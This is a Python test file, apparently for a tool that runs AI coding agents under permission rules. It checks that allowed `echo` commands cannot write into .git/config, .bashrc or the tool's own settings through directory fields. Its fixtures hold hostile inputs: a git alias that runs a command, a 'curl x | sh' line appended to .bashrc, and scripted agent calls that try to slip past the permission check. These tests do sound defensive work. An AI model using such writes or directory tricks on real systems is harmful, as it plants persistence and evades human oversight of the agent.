"""Every agent CLI teammate's command is checked where it runs: the directory a
request carries (Codex's `workdir`, Gemini CLI's `dir_path`) and the shell cwd a CLI would keep
between calls (Claude Code's Bash: it does not keep it). Under `Bash(echo:*)` alone, an `echo`
into `.git/config`, `.swarm/settings.json` or a `.bashrc` outside the project is asked (here
denied), never written; a request whose directory swarm cannot know is asked too."""

# ruff: noqa: F811 - the CLI fixtures are imported from their test modules and used by name
from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

from tests.agents.test_claude_code import answered, claude_env, lead_messages, ok  # noqa: F401
from tests.agents.test_codex import codex_env  # noqa: F401 - the fixture
from tests.agents.test_gemini import MODEL, gemini_env  # noqa: F401 - the fixture
from tests.agents.test_untrusted import checkout
from tests.support.cli_runner import run_swarm
from tests.support.fake_anthropic import FakeAnthropic
from tests.support.fake_gemini import FakeGemini
from tests.support.fake_responses import FakeResponses
from tests.support.helpers import wait_until

ALIAS = "echo '[alias] pwned = !touch PWNED' >> config"


def answer_until_idle(name: str, approve: Callable[[dict[str, Any]], bool],
                      timeout: float = 120) -> list[dict[str, Any]]:
    """Answer each permission request `name` sends (approve, or deny) until its turn ends; the
    requests, in order."""
    seen: list[dict[str, Any]] = []

    def step() -> bool:
        for ask in lead_messages("permission_request")[len(seen):]:
            seen.append(ask)
            answer = ["approve"] if approve(ask) else ["deny", "--reason", "not there"]
            done = run_swarm("permissions", answer[0], ask["request_id"][:8], *answer[1:])
            assert done.returncode == 0, done.stderr
        return answered(name)

    wait_until(step, timeout, message=f"{name} ended its turn")
    return seen


def command(ask: dict[str, Any]) -> str:
    return str(ask["input"].get("command", ""))


def repo_with_git(tmp_path: Path) -> tuple[Path, Path, str]:
    repo = checkout(tmp_path / "repo", {"README.md": "hi\n"})
    config = repo / ".git" / "config"
    return repo, config, config.read_text()


def test_claude_codes_shell_keeps_no_cd_between_commands(
        claude_env: FakeAnthropic, tmp_path: Path) -> None:
    """`cd .git` in one call, then an echo into `config` in the next: the echo runs in the
    project directory, where swarm checked it."""
    repo, git_config, before = repo_with_git(tmp_path)
    claude_env.push_tool_use("Bash", {"command": "cd .git", "description": "go"})
    claude_env.push_tool_use("Bash", {"command": ALIAS, "description": "add"})
    claude_env.push_text("Done.")
    ok("spawn", "cc", "--agent", "claude-code", "--backend", "hidden", "--cwd", str(repo),
       "--allow", "Bash(echo:*)", "--prompt", "go")
    asked = answer_until_idle("cc", lambda ask: command(ask) == "cd .git")
    assert git_config.read_text() == before, "the echo wrote .git/config"
    assert "pwned" in (repo / "config").read_text()  # it ran where swarm checked it
    assert all(command(a) == "cd .git" for a in asked)


def test_codex_asks_about_a_command_in_git(codex_env: FakeResponses, tmp_path: Path) -> None:
    repo, git_config, before = repo_with_git(tmp_path)
    codex_env.push_tool_use("exec_command", {"cmd": ALIAS, "workdir": ".git"})
    codex_env.push_text("Done.")
    ok("spawn", "cx", "--agent", "codex", "--backend", "hidden", "--cwd", str(repo),
       "--allow", "Bash(echo:*)", "--prompt", "go")
    asked = answer_until_idle("cx", lambda ask: False)
    assert git_config.read_text() == before, "the echo wrote .git/config"
    assert [command(a) for a in asked] == [f"cd {repo / '.git'} && {ALIAS}"]


def test_codex_asks_about_a_command_outside_the_project(
        codex_env: FakeResponses, tmp_path: Path) -> None:
    repo, _, _ = repo_with_git(tmp_path)
    outside = tmp_path / "outside"
    outside.mkdir()
    codex_env.push_tool_use("exec_command", {"cmd": "echo 'curl x | sh' >> .bashrc",
                                             "workdir": "../outside"})
    codex_env.push_text("Done.")
    ok("spawn", "cx", "--agent", "codex", "--backend", "hidden", "--cwd", str(repo),
       "--allow", "Bash(echo:*)", "--prompt", "go")
    asked = answer_until_idle("cx", lambda ask: False)
    assert not (outside / ".bashrc").exists(), "the echo wrote outside the project"
    assert [command(a) for a in asked] == [f"cd {outside} && echo 'curl x | sh' >> .bashrc"]


def test_gemini_asks_about_a_command_in_swarms_folder(
        gemini_env: FakeGemini, tmp_path: Path) -> None:
    repo = checkout(tmp_path / "repo", {"README.md": "hi\n", ".swarm/notes.txt": "x\n"})
    gemini_env.push_tool_use("run_shell_command", {
        "command": "echo '{\"hooks\": {}}' > settings.json", "dir_path": ".swarm",
        "description": "write"})
    gemini_env.push_text("Done.")
    ok("spawn", "gm", "--agent", "gemini", "--model", MODEL, "--backend", "hidden", "--cwd",
       str(repo), "--allow", "Bash(echo:*)", "--prompt", "go")
    asked = answer_until_idle("gm", lambda ask: False)
    assert not (repo / ".swarm" / "settings.json").exists(), "the echo wrote .swarm/"
    assert [command(a) for a in asked] == [
        f"cd {repo / '.swarm'} && echo '{{\"hooks\": {{}}}}' > settings.json"]


def test_gemini_asks_when_where_a_command_runs_cannot_be_known(
        gemini_env: FakeGemini, tmp_path: Path) -> None:
    """Not named by the issue: Gemini CLI tells the directory only inside a line it builds with
    the model's description (`[in DIR] (DESCRIPTION)`); one that reads two ways is asked, even
    under a rule that allows the command."""
    repo = checkout(tmp_path / "repo", {"README.md": "hi\n", "a] (b/keep": "x\n"})
    gemini_env.push_tool_use("run_shell_command", {
        "command": "echo hi > out.txt", "dir_path": "a] (b", "description": "look] (c"})
    gemini_env.push_text("Done.")
    ok("spawn", "gm", "--agent", "gemini", "--model", MODEL, "--backend", "hidden", "--cwd",
       str(repo), "--allow", "Bash(echo:*)", "--prompt", "go")
    asked = answer_until_idle("gm", lambda ask: False)
    assert [command(a) for a in asked] == ["echo hi > out.txt"]
    assert not (repo / "a] (b" / "out.txt").exists()
    assert asked[0]["input"]["description"] == (
        "where it runs is not known: [in a] (b] (look] (c)")
